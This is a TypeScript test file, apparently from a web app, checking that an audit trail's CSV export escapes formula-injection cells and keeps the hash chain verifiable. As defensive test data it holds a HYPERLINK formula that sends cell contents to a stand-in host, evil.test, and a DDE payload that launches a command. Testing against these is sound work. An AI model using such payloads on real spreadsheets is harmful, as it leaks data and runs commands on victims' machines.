/**
 * The audit trail's CSV export: what people and browsers wrote (names, User-Agents) never opens
 * as a formula in a spreadsheet, and the stored values, hash chain included, come back from the
 * file exactly.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { auditTrailCsv } from '../../src/lib/server/audit/audit-csv.ts';
import { exportAuditTrail } from '../../src/lib/server/audit/audit-trail.service.ts';
import { recordStandalone } from '../../src/lib/server/audit/audit.service.ts';
import { listAuditChain } from '../../src/lib/server/audit/audit.repository.ts';
import { auditHash, verifyChain, type ChainedAuditRow } from '../../src/lib/server/audit/chain.ts';
import { fromSpreadsheetSafe } from '../../src/lib/server/csv.ts';
import { contextFor, grantRole, newUser } from '../factories.ts';
import { createTestDatabase } from './database.ts';

const { db } = await createTestDatabase();

const admin = await newUser(db, { name: 'Ada Admin', email: 'ada.admin@example.test' });
await grantRole(db, admin.id, 'admin');
const mallory = await newUser(db, {
	name: '=HYPERLINK("https://evil.test/?"&A1,"Open")',
	email: 'mallory@example.test'
});

async function exported(): Promise<Record<string, string>[]> {
	const events = await exportAuditTrail(await contextFor(db, admin.id), {});
	let failure: unknown;
	const chunks: string[] = [];
	for await (const chunk of auditTrailCsv(events, (e) => (failure = e))) chunks.push(String(chunk));
	expect(failure).toBeUndefined();
	return parse(chunks.join(''), { columns: true }) as Record<string, string>[];
}

describe('the audit trail as CSV', () => {
	it('keeps cells a spreadsheet would run as formulas as text, and the stored values recoverable', async () => {
		const ctx = { ...(await contextFor(db, mallory.id)), userAgent: '@SUM(1+1)*cmd|" /C calc"!A0' };
		await recordStandalone(ctx, {
			action: 'test.formula',
			objectType: 'thing',
			objectId: "'already quoted",
			details: { note: '=1+1' }
		});
		await recordStandalone(ctx, { action: 'test.plain', objectType: 'thing', objectId: '-42' });

		const rows = await exported();
		const formula = rows.find((r) => r.action === 'test.formula')!;
		expect(formula.actor_label).toBe(
			`'=HYPERLINK("https://evil.test/?"&A1,"Open") <mallory@example.test>`
		);
		expect(formula.user_agent).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
		expect(formula.object_id).toBe("''already quoted");
		expect(formula.details).toBe('{"note":"=1+1"}');
		expect(rows.find((r) => r.action === 'test.plain')!.object_id).toBe("'-42");
		// No cell of any row starts as a formula would.
		for (const row of rows)
			for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

		// Undoing the one rule gives back every stored value, so the chain verifies from the file.
		const stored = await listAuditChain(db, 0, 100_000);
		const fromFile: ChainedAuditRow[] = rows
			.map((r) => {
				const text = (cell: string) => fromSpreadsheetSafe(cell);
				const orNull = (cell: string) => (cell === '' ? null : text(cell));
				return {
					id: Number(r.id),
					occurredAt: new Date(r.occurred_at!),
					actorId: r.actor_id ? Number(text(r.actor_id)) : null,
					actorLabel: text(r.actor_label!),
					action: text(r.action!),
					objectType: orNull(r.object_type!),
					objectId: orNull(r.object_id!),
					outcome: text(r.outcome!) as ChainedAuditRow['outcome'],
					ip: orNull(r.ip!),
					userAgent: orNull(r.user_agent!),
					details: JSON.parse(text(r.details!)) as Record<string, unknown>,
					prevHash: r.prev_hash!,
					hash: r.hash!
				};
			})
			.reverse();
		expect(fromFile.map((r) => r.id)).toEqual(stored.map((r) => r.id));
		for (const row of fromFile) expect(auditHash(row.prevHash, row)).toBe(row.hash);
		expect(verifyChain(fromFile)).toMatchObject({ ok: true });
	});
});
